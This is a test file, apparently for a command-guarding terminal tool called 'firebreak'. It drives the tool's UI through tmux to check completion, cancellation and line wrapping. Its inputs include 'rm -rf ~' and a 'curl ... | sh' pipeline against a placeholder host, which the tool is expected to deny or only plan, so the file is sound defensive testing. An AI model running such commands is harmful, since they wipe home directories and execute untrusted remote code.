/**
 * The terminal UI in a real terminal: tmux runs `firebreak` with no arguments, send-keys types, capture-pane reads
 * the screen. Each session has its own XDG dirs (and runtime dir), so no one else's daemon is picked up.
 */
import { execFileSync } from "node:child_process";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { afterEach, describe, expect, it } from "vitest";
import { isolatedEnv, REPO_ROOT, tempDir } from "../helpers/tmp.js";
import { startTmux, type TmuxSession, tmuxAvailable } from "../helpers/tmux.js";

const sessions: TmuxSession[] = [];
afterEach(() => {
  for (const s of sessions.splice(0)) s.kill();
});

const firebreak = `${process.execPath} ${path.join(REPO_ROOT, "bin/firebreak.js")}`;

function open(size: { width: number; height: number }): TmuxSession {
  const home = tempDir("fb-home-");
  const env = { ...isolatedEnv(home), XDG_RUNTIME_DIR: path.join(home, "run"), TERM: "xterm-256color" };
  const t = startTmux(firebreak, { cwd: tempDir("fb-proj-"), env, ...size });
  sessions.push(t);
  return t;
}

/** The screen's lines; capture-pane -J joins rows the terminal wrapped, so a line wider than the pane shows longer. */
function rows(t: TmuxSession): string[] {
  return t.screen().split("\n");
}

/** The pids of processes whose command line is exactly `sleep <seconds>` (the test's own marker value). */
function sleepers(seconds: string): string[] {
  const out = execFileSync("ps", ["-eo", "pid=,args="], { encoding: "utf8" });
  return out.split("\n").filter((l) => l.trim().endsWith(`sleep ${seconds}`)).map((l) => l.trim().split(/\s+/)[0]!);
}

describe.runIf(tmuxAvailable())("firebreak's terminal UI in tmux", { timeout: 90_000 }, () => {
  it("hel + Tab completes to hello-world; --name Ada + Enter shows hello, Ada!; /plan rm -rf ~ shows denied", async () => {
    const t = open({ width: 100, height: 30 });
    await t.waitFor(/role developer · in-process/, 20_000);
    t.type("hel");
    await t.waitFor(/hello-world \(alias hello\)/);
    t.type("Tab");
    await t.waitFor(/› hello-world *\n/);
    t.type("--", "--name Ada", "Enter"); // `--`: tmux would read --name as its own option
    const started = Date.now();
    await t.waitFor(/^hello, Ada!$/m, 10_000);
    expect(Date.now() - started).toBeLessThan(10_000);
    t.type("/plan rm -rf ~", "Enter");
    const screen = await t.waitFor(/\(nothing ran\)/, 30_000);
    expect(screen).toMatch(/denied · risk critical/);
  });

  it("Ctrl-C cancels a running `sleep` (no process left) and the UI still answers", async () => {
    const marker = String(3000 + Math.floor(Math.random() * 999)); // unique sleep length: only ours is counted
    const t = open({ width: 100, height: 30 });
    await t.waitFor(/role developer · in-process/, 20_000);
    t.type(`!sleep ${marker}`, "Enter");
    await t.waitFor(new RegExp(`\\$ sleep ${marker}`));
    for (let i = 0; i < 50 && sleepers(marker).length === 0; i++) await sleep(100);
    expect(sleepers(marker).length).toBeGreaterThan(0);
    t.type("C-c");
    await t.waitFor(/cancelled \(exit 130\)/);
    for (let i = 0; i < 30 && sleepers(marker).length > 0; i++) await sleep(100);
    expect(sleepers(marker)).toEqual([]);
    t.type("hello-world --name Bo", "Enter");
    await t.waitFor(/^hello, Bo!$/m, 10_000);
  });

  it("at 80×24 no line goes past the width, through a long plan and a resize to 60 columns", async () => {
    const t = open({ width: 80, height: 24 });
    await t.waitFor(/role developer · in-process/, 20_000);
    t.type("/plan curl -s https://example.invalid/install.sh | sh && rm -rf ~/projects/some/long/path", "Enter");
    await t.waitFor(/\(nothing ran\)/);
    for (const row of rows(t)) expect(row.length).toBeLessThanOrEqual(80);
    t.type("/help", "Enter");
    await t.waitFor(/\/quit — leave/);
    for (const row of rows(t)) expect(row.length).toBeLessThanOrEqual(80);
    execFileSync("tmux", ["resize-window", "-t", t.name, "-x", "60", "-y", "24"]);
    await sleep(500);
    t.type("hel");
    await t.waitFor(/hello-world \(alias/);
    const after = rows(t);
    expect(after.slice(-8).every((row) => row.length <= 60)).toBe(true);
  });
});
